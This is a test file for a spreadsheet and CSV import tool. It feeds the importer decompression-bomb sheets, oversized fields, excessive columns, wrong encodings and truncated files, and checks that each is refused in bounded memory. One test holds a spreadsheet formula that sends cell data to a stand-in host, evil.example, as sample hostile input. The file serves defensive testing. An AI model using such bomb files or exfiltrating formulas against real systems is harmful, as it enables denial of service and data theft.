/** Real files made to hurt: each is brought in by a process of its own, whose peak memory is what the system says. */
import { execFile } from "node:child_process";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openStores, readConfig, type Stores } from "../../base/index.ts";
import type { Failure } from "../../kernel/index.ts";
import { gb18030 } from "../../testing/gb18030.ts";
import { sharedTexts, sheet, sheetOf, spreadsheet, spreadsheetOf } from "../../testing/spreadsheet.ts";

const folder = mkdtempSync(join(tmpdir(), "steelyard-hostile-"));
chmodSync(folder, 0o711);
const home = join(folder, "home");
const megabyte = 1024 * 1024;
/** Of the JavaScript heap; chunks in work, of 68 MB each, lie beside it. */
const mostHeap = 400;
const mostMegabytes = 1000;
let stores: Stores;

beforeAll(async () => {
  stores = await openStores(readConfig({ STEELYARD_HOME: home }));
}, 120_000);

afterAll(async () => {
  await stores?.close();
  rmSync(folder, { recursive: true, force: true });
});

const header = "platform,id,observedAt,title,state,sales";
const names = header.split(",");
const first = `<row r="1">${names.map((name) => `<c t="inlineStr"><is><t>${name}</t></is></c>`).join("")}</row>`;
const shared = (row: number, cells: number) =>
  `<row r="${row}">${'<c t="s"><v>0</v></c>'.repeat(cells)}</row>`;

/** What it is, the code and the reason of its refusal. */
const hostile: readonly (readonly [string, string, RegExp, () => Buffer | string])[] = [
  ["a sheet that unpacks to 400 MB", "too-large", /大得离谱/, () => zeros(sheet)],
  ["shared texts that unpack to 400 MB", "too-large", /大得离谱/, () => zeros(sharedTexts)],
  [
    "one long text that a million cells name",
    "too-large",
    /大得离谱/,
    () => texts(`<si><t>${"a".repeat(32_000)}</t></si>`, shared(2, 60).repeat(20_000)),
  ],
  [
    "a row that grows beyond all measure by one text",
    "too-large",
    /大得离谱/,
    () => texts(`<si><t>${"a".repeat(7 * megabyte)}</t></si>`, shared(2, 16_000)),
  ],
  [
    "rows that leave out a hundred thousand each",
    "too-large",
    /大得离谱/,
    () => sheetFile(Array.from({ length: 20_000 }, (_, at) => `<row r="${(at + 1) * 99_999}"/>`).join("")),
  ],
  ["ten thousand columns of a sheet", "too-large", /10000 列/, () => spreadsheet([wide(10_000)])],
  ["ten thousand columns", "too-large", /10000 列/, () => `${wide(10_000).join(",")}\n1\n`],
  [
    "ten thousand names in a line of JSON",
    "too-large",
    /10000 列/,
    () => `${JSON.stringify(Object.fromEntries(wide(10_000).map((name) => [name, 1])))}\n`,
  ],
  [
    "a header in another tongue",
    "invalid-input",
    /title（标题、.*列“titel”相近）.*文件的列为：platform, artikel, datum, titel/,
    () => "platform,artikel,datum,titel\nx,1,2026-01-02,zijde\n",
  ],
  ["text of Latin-1", "unsupported-file", /既不是 UTF-8 也不是 GB18030/, () => latin1()],
  ["text of Big5", "unsupported-file", /既不是 UTF-8 也不是 GB18030/, () => big5()],
  ["UTF-16 without a mark", "unsupported-file", /不是文本文件/, () => Buffer.from(`${header}\n`, "utf16le")],
  ["a sheet cut in the middle", "invalid-input", /损坏|不完整/, () => spreadsheet([names]).subarray(0, 300)],
];

describe("a file made to hurt is refused with a code and a reason in both languages, in bounded memory", () => {
  it.each(hostile)(
    "%s",
    async (name, code, zh, make) => {
      const done = await importing(name, make());
      expect(done.error).toMatchObject({ code, message: { zh: expect.stringMatching(zh) } });
      expect(done.error?.message.en).toMatch(/^[A-Z][^\p{Script=Han}]*$|titel/u);
      expect(done.error?.wayOut.zh).toMatch(/\p{Script=Han}/u);
      expect(done.error?.wayOut.en).toMatch(/[a-z]/);
      expect(done.megabytes).toBeLessThan(mostMegabytes);
    },
    120_000,
  );
});

describe("a file made to hurt is survived", () => {
  it("formulas of a sheet are their saved values; a text that looks like one stays a text", async () => {
    const call = { formula: 'WEBSERVICE("http://evil.example/"&A1)', value: "saved" };
    const link = '=HYPERLINK("http://evil.example","x")';
    const rows = [
      names,
      ["f", "1", "2026-01-02", call, "", 1],
      ["f", "2", "2026-01-02", link, "", 2],
      ["f", "3", "2026-01-02", { formula: "1/0", value: "" }, "", 3],
    ];
    const done = await importing("formulas.xlsx", spreadsheet(rows));
    expect(done).toMatchObject({ ok: true, value: { rows: 3, kept: 2, refused: 1 } });
    const kept = await stores.lake.rows(
      "SELECT id, title FROM seen_listing WHERE platform = 'f' ORDER BY id",
    );
    expect(kept).toEqual([
      { id: "1", title: "saved" },
      { id: "2", title: link },
    ]);
  }, 60_000);

  it("a field of 100 MB costs its row only, in a text and in lines of JSON", async () => {
    const long = "a".repeat(100 * megabyte);
    const csv = `${header}\nl,1,2026-01-02,ok,,\nl,2,2026-01-02,${long},,\nl,3,2026-01-02,ok,,\n`;
    const inText = await importing("long.csv", csv);
    expect(inText).toMatchObject({ ok: true, value: { rows: 3, kept: 2, refused: 1 } });
    expect(inText.megabytes).toBeLessThan(mostMegabytes);
    const line = (id: string, title: string) =>
      `${JSON.stringify({ platform: "l", id, observedAt: "2026-01-02", title })}\n`;
    const inLines = await importing("long.jsonl", line("4", "ok") + line("5", long) + line("6", "ok"));
    expect(inLines).toMatchObject({ ok: true, value: { rows: 3, kept: 2, refused: 1 } });
    expect(inLines.megabytes).toBeLessThan(mostMegabytes);
  }, 120_000);

  it("names with rare characters in GB18030 are read all the same", async () => {
    const rows = Array.from({ length: 20 }, (_, at) => `稀,${at},2026-01-02,公平秤与丝绸围巾 镕喆,,\n`).join(
      "",
    );
    const done = await importing("rare.csv", gb18030(`${header}\n${rows}`));
    expect(done).toMatchObject({ ok: true, value: { rows: 20, kept: 20 } });
  }, 60_000);
});

function wide(columns: number): string[] {
  return Array.from({ length: columns }, (_, at) => `c${at}`);
}

/** A part of 400 MB of letters, which its directory calls a hundred bytes. */
function zeros(name: string): Buffer {
  const bytes = Buffer.alloc(400 * megabyte, 0x61);
  const rest = name === sheet ? [] : [{ name: sheet, bytes: sheetOf("") }];
  return spreadsheetOf([{ name, bytes, claims: 100 }, ...rest]);
}

function texts(items: string, rows: string): Buffer {
  return spreadsheetOf([
    { name: sharedTexts, bytes: `<sst>${items}</sst>` },
    { name: sheet, bytes: sheetOf(`${first}${rows}`) },
  ]);
}

function sheetFile(rows: string): Buffer {
  return spreadsheetOf([{ name: sheet, bytes: sheetOf(`${first}${rows}`) }]);
}

function latin1(): Buffer {
  const row = "x,1,2026-01-02,Größe für Käse und Brötchen à la crème,,\n";
  return Buffer.from(`${header}\n${row.repeat(50)}`, "latin1");
}

/** 公平交易網路商店 as a writer of Big5 saves it. */
function big5(): Buffer {
  const words = Buffer.from("a4bda5ade5e6a9f6baf4b8f4b0d3a9b1", "hex");
  const row = Buffer.concat([Buffer.from("x,1,2026-01-02,"), words, Buffer.from(",,\n")]);
  return Buffer.concat([Buffer.from(`${header}\n`), ...Array.from({ length: 50 }, () => row)]);
}

interface Done {
  readonly ok: boolean;
  readonly value?: { readonly rows: number; readonly kept: number; readonly refused: number };
  readonly error?: Failure;
  readonly megabytes: number;
}

async function importing(name: string, bytes: Buffer | string): Promise<Done> {
  const file = join(folder, name.replaceAll(/[^\w.-]/g, "_"));
  writeFileSync(file, bytes);
  const module = (path: string) => JSON.stringify(join(import.meta.dirname, path));
  const program = `
    import { randomBytes } from "node:crypto";
    import { masterKeyOf } from ${module("../../access/index.ts")};
    import { openStores, readConfig, systemClock } from ${module("../../base/index.ts")};
    import { bring, openSource, Unreadable } from ${module("index.ts")};
    import { listingKind } from ${module("../kinds.ts")};
    const stores = await openStores(readConfig({ STEELYARD_HOME: ${JSON.stringify(home)} }), { borrow: true });
    const random = (n) => new Uint8Array(randomBytes(n));
    const parts = { lake: stores.lake, ledger: stores.ledger, sinks: [], now: systemClock.now, random, masterKey: masterKeyOf(new Uint8Array(32).fill(5)) };
    let done;
    try {
      const source = await openSource(${JSON.stringify(file)}, { spool: ${JSON.stringify(join(folder, "spool"))} });
      done = await bring(parts, { kind: listingKind, source, person: "t" });
    } catch (error) {
      if (!(error instanceof Unreadable)) throw error;
      done = { ok: false, error: error.failure };
    }
    await stores.close();
    console.log(JSON.stringify({ ...done, megabytes: process.resourceUsage().maxRSS / 1024 }));`;
  const { stdout } = await promisify(execFile)(process.execPath, [
    `--max-old-space-size=${mostHeap}`,
    "--input-type=module",
    "-e",
    program,
  ]);
  rmSync(file);
  return JSON.parse(stdout.trim().split("\n").at(-1) ?? "");
}
